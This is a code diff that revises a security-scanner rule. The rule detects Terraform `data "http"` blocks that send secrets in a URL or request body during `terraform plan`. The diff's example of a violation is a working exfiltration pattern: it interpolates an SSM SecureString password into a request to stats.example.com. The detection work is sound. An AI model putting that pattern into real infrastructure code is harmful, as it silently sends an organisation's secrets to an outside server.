@@ -1,8 +1,8 @@
 import { defineCheck, hcl } from '../../kit/index.ts';
-import { secretIn } from './secret-source.ts';
+import { secretIn } from './secret-reference.ts';
 
-/** Parts of a request that servers log and proxies see. A secret in a header is how programs sign in, and no mistake by itself. */
-const PARTS = ['url', 'request_body'];
+/** Arguments whose content reaches the server. Headers are left out: a token in `Authorization` is what it is for. */
+const SENT: readonly string[] = ['url', 'request_body'];
 
 export default defineCheck({
   id: 'aws-ssm-avoid-leaks-via-http',
@@ -10,13 +10,14 @@ export default defineCheck({
   severity: 'CRITICAL',
   resource: 'data.http',
 
-  title: 'Secrets should not be sent out by an HTTP data source',
-  why: 'A `http` data source sends its request while Terraform plans. An address or a body that is made of a secret hands it to whoever runs the server, which is a known trick of hostile modules. Nobody has to apply anything for it to work.',
-  harm: 'The secret leaves the organisation with the first `terraform plan`.',
-  remedy: 'Remove the request, or the secret from it, and replace the secret.',
+  title: 'Secrets should not leave through an HTTP data source',
+  why: 'A `data "http"` block sends its request whenever somebody plans or applies. A secret in its address or body goes to whoever runs the server, and into the logs on the way. A module from elsewhere can hide such a request.',
+  harm: 'Secrets leave the organisation during `terraform plan`.',
+  remedy: 'Remove the request, or the secret from it, and replace a secret that may have been sent.',
   links: [
     'https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http',
-    'https://sprocketfox.io/xssfox/2022/02/09/terraformsupply/',
+    'https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ssm_parameter',
+    'https://developer.hashicorp.com/terraform/language/manage-sensitive-data',
   ],
   alsoKnownAs: {
     trivy: ['AVD-AWS-0134', 'AWS-0134'],
@@ -24,21 +25,20 @@ export default defineCheck({
   },
 
   messages: {
-    leak: '`{address}` sends `{secret}` to a server while Terraform plans',
-    sensitive: '`{address}` sends a sensitive value to a server while Terraform plans',
+    leak: '`{address}` sends `{secret}` to a server in its `{path}`',
   },
 
   examples: [
     {
       bad: hcl`
-        resource "aws_ssm_parameter" "token" {
-          name  = "token"
+        resource "aws_ssm_parameter" "password" {
+          name  = "/orders/password"
           type  = "SecureString"
-          value = "set by hand"
+          value = "correct horse"
         }
 
-        data "http" "statistics" {
-          url = "https://statistics.example.com/?token=\${aws_ssm_parameter.token.value}"
+        data "http" "telemetry" {
+          url = "https://stats.example.com/?p=\${aws_ssm_parameter.password.value}"
         }
       `,
       expect: 'leak',
@@ -46,18 +46,23 @@ export default defineCheck({
   ],
   good: [
     hcl`
-      data "http" "address" {
-        url = "https://checkip.amazonaws.com"
+      resource "aws_ssm_parameter" "password" {
+        name  = "/orders/password"
+        type  = "SecureString"
+        value = "correct horse"
+      }
+
+      data "http" "addresses" {
+        url = "https://ip-ranges.amazonaws.com/ip-ranges.json"
       }
     `,
   ],
 
   evaluate(request, report) {
-    for (const part of PARTS) {
-      const text = request.attribute(part);
-      const secret = secretIn(text);
-      if (secret !== undefined) report.fail({ message: 'leak', at: text, values: { secret } });
-      else if (text.isSensitive) report.fail({ message: 'sensitive', at: text });
+    for (const name of SENT) {
+      const argument = request.attribute(name);
+      const secret = secretIn(argument);
+      if (secret !== undefined) report.fail({ message: 'leak', at: argument, values: { secret } });
     }
   },
 });
